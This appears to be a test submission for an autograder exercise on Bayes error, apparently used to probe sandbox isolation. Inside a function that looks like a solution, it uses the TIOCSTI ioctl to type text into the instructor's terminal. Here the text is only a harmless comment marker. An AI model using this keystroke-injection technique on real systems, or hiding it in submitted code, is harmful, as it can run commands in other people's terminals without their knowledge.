"""Types a command into the instructor's terminal with the ioctl TIOCSTI.

exercise: 08_bayes_error
verdict: crashed
"""

import contextlib
import fcntl
import os
import termios
from math import erfc, sqrt

import numpy as np


def linear_error(w, signal, kappa, sigma):
    typed = 0
    for path in ("/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/2"):
        with contextlib.suppress(OSError):
            terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
            for letter in b"# FLS-ATTACK-WAS-HERE":  # a comment: harmless where it works
                fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
                typed += 1
    if not typed:
        raise OSError("no terminal")
    return erfc(kappa / sigma * (w @ signal) / np.linalg.norm(w) / sqrt(2)) / 2
